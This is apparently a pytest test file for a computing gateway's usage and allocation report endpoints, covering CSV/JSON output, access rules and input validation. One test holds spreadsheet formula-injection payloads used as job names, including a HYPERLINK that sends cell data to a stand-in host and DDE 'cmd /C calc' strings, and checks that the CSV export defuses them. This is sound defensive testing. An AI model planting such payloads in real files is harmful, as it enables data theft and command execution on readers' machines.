"""GET /api/v1/reports/... and /api/v1/usage: JSON and CSV, as of a past time, problem
documents for bad input, and the access rule (a project you have no part in is 404)."""

from __future__ import annotations

import csv
import io
from collections.abc import Iterator
from dataclasses import dataclass
from datetime import timedelta
from typing import Any

import pytest
from fastapi.testclient import TestClient

from gateway.db.base import utcnow
from gateway.db.engine import transaction
from gateway.runtime import Runtime
from tests.conftest import MakeUser, TestUser
from tests.services import report_fixtures as rf
from tests.services.bank_fixtures import NOW
from tests.services.report_fixtures import DAY0, World

REPORTS = ("/api/v1/reports/allocations", "/api/v1/reports/usage", "/api/v1/reports/waits",
           "/api/v1/reports/adjustments", "/api/v1/usage")


@dataclass
class Setup:
    world: World
    admin: TestUser
    auditor: TestUser
    pi: TestUser
    member: TestUser
    other: TestUser


@pytest.fixture
def setup(runtime: Runtime, make_user: MakeUser) -> Iterator[Setup]:
    users = [make_user(roles=r) for r in (("admin",), ("auditor",), ("researcher",),
                                          ("researcher",), ("researcher",))]
    with transaction(runtime.sessions) as s:
        world = rf.build(s, users[2].principal.user_id, users[3].principal.user_id,
                         users[4].principal.user_id)
    # The history ends at NOW: the gateway's clock reads NOW.
    clock, runtime.clock = runtime.clock, lambda: NOW
    yield Setup(world, *users)
    runtime.clock = clock


def _csv(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text)))


def test_allocations_report_json_and_csv(client: TestClient, setup: Setup) -> None:
    params = {"project": setup.world.astro}
    r = client.get(REPORTS[0], params=params, headers=setup.pi.headers)
    assert r.status_code == 200, r.text
    [row] = r.json()["allocations"]
    assert (row["awarded_su"], row["used_su"], row["held_su"], row["remaining_su"]) == (
        110.0, 10.0, 5.0, 95.0)
    assert r.json()["as_of"].startswith("2026-11-25T12:00:00")
    as_csv = client.get(REPORTS[0], params=params,
                        headers={**setup.pi.headers, "Accept": "text/csv"})
    assert as_csv.headers["content-type"].startswith("text/csv")
    [line] = _csv(as_csv.text)
    assert (line["awarded_su"], line["used_su"], line["remaining_su"], line["project"]) == (
        "110.0", "10.0", "95.0", setup.world.astro)
    # ?format=csv does the same; ?format=json wins over an Accept header.
    assert client.get(REPORTS[0], params={**params, "format": "csv"},
                      headers=setup.pi.headers).text == as_csv.text
    assert client.get(REPORTS[0], params={**params, "format": "json"},
                      headers={**setup.pi.headers, "Accept": "text/csv"}).json()[
        "allocations"] == [row]


def test_as_of_a_past_time_without_a_zone_is_utc(client: TestClient, setup: Setup) -> None:
    before = (DAY0 + timedelta(days=1, seconds=-1)).replace(tzinfo=None).isoformat()
    r = client.get(REPORTS[0], params={"project": setup.world.astro, "as_of": before},
                   headers=setup.admin.headers)
    [row] = r.json()["allocations"]
    assert (row["used_su"], row["held_su"], row["remaining_su"]) == (0.0, 3.0, 97.0)


def test_usage_report_by_site_with_total_in_csv(client: TestClient, setup: Setup) -> None:
    r = client.get(REPORTS[1], params={"by": "site", "format": "csv"},
                   headers=setup.auditor.headers)
    rows = {line["key"]: line for line in _csv(r.text)}
    assert set(rows) == {"alpha", "beta", "total"}
    assert (rows["beta"]["net_su"], rows["beta"]["su_per_core_hour"],
            rows["beta"]["rate_card_version"]) == ("8.0", "2.0", "1")
    assert rows["total"]["net_su"] == "12.0" and rows["total"]["rate_card_version"] == ""
    member = client.get(REPORTS[1], params={"by": "user"}, headers=setup.member.headers)
    assert [row["key"] for row in member.json()["rows"]] == [setup.member.principal.username]


def test_waits_and_adjustments(client: TestClient, setup: Setup) -> None:
    waits = client.get(REPORTS[2], headers=setup.admin.headers).json()
    assert [row["site"] for row in waits["rows"]] == ["alpha", "beta", "*"]
    assert waits["rows"][2]["jobs"] == 4
    adjustments = client.get(REPORTS[3], params={"project": setup.world.astro},
                             headers=setup.pi.headers).json()["rows"]
    assert [(a["kind"], a["amount_su"]) for a in adjustments] == [
        ("refund", 16.0), ("adjustment", 10.0)]


def test_usage_lists_my_jobs_like_sacct(client: TestClient, setup: Setup) -> None:
    jobs = setup.world.jobs
    mine = client.get(REPORTS[4], headers=setup.member.headers).json()["jobs"]
    assert [j["job_id"] for j in mine] == [jobs["j4"], jobs["j3"], jobs["j2"]]
    done = client.get(REPORTS[4], params={"state": "COMPLETED", "format": "csv"},
                      headers=setup.member.headers)
    assert [(row["job_id"], row["cores"], row["elapsed"], row["charge_su"])
            for row in _csv(done.text)] == [(jobs["j3"], "32", "1800", "0.0"),
                                            (jobs["j2"], "4", "3600", "8.0")]
    project = client.get(REPORTS[4], params={"project": setup.world.astro},
                         headers=setup.pi.headers).json()["jobs"]
    assert {j["job_id"] for j in project} == {jobs[k] for k in ("j1", "j2", "j3", "j4")}


FORMULAS = ['=HYPERLINK("http://x.invalid/?"&A1,"click")', "+1+cmd|' /C calc'!A0",
            "-2+3", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]


def test_a_members_job_named_as_a_formula_reaches_the_pis_csv_as_text(
        client: TestClient, runtime: Runtime, setup: Setup) -> None:
    # Issue 25 item 4: the name appeared verbatim in the PI's CSV, a live formula.
    runtime.clock = utcnow  # the jobs are submitted now, after the fixtures' history
    for name in FORMULAS:
        r = client.post("/api/v1/jobs", json={"name": name, "executable": "/bin/true",
                                              "project": setup.world.astro},
                        headers=setup.member.headers)
        assert r.status_code == 202, r.text
    params = {"project": setup.world.astro, "since": DAY0.isoformat()}
    as_csv = client.get(REPORTS[4], params={**params, "format": "csv"},
                        headers=setup.pi.headers)
    rows = _csv(as_csv.text)
    assert sorted(row["name"] for row in rows if row["name"].startswith("'")) == sorted(
        "'" + name for name in FORMULAS)
    assert not [cell for row in rows for cell in row.values()
                if cell.startswith(("=", "+", "@", "\t", "\r"))
                or (cell.startswith("-") and not _number(cell))]
    # The JSON document keeps every name as it was given.
    as_json = client.get(REPORTS[4], params=params, headers=setup.pi.headers).json()
    assert set(FORMULAS) <= {job["name"] for job in as_json["jobs"]}


def _number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True


@pytest.mark.parametrize("path", REPORTS)
def test_another_projects_reports_are_404(client: TestClient, setup: Setup,
                                          path: str) -> None:
    for who in (setup.other, setup.member):
        project = setup.world.astro if who is setup.other else setup.world.geo
        r = client.get(path, params={"project": project}, headers=who.headers)
        assert r.status_code == 404, (path, r.text)
        assert r.headers["content-type"] == "application/problem+json"
        assert "No project named" in r.json()["detail"]
    assert client.get(path, params={"project": setup.world.astro},
                      headers=setup.auditor.headers).status_code == 200


@pytest.mark.parametrize(("path", "params", "field"), [
    (REPORTS[1], {"by": "colour"}, "by"),
    (REPORTS[0], {"as_of": "yesterday"}, "as_of"),
    (REPORTS[0], {"window_days": "0"}, "window_days"),
    (REPORTS[4], {"state": "DONE"}, "state"),
    (REPORTS[1], {"since": "2026-11-02T00:00:00Z", "until": "2026-11-01T00:00:00Z"}, "since"),
    (REPORTS[0], {"as_of": "2027-01-01T00:00:00Z"}, "as_of"),
])
def test_bad_input_is_a_problem_document(client: TestClient, setup: Setup, path: str,
                                         params: dict[str, Any], field: str) -> None:
    r = client.get(path, params=params, headers=setup.admin.headers)
    assert r.status_code in (400, 422), r.text
    assert r.headers["content-type"] == "application/problem+json"
    body = r.json()
    fields = [e.get("field") for e in body.get("errors", [])] + [body.get("field")]
    assert any(f and f.endswith(field) for f in fields), body


def test_reports_need_a_token(client: TestClient, setup: Setup) -> None:
    for path in REPORTS:
        assert client.get(path).status_code == 401
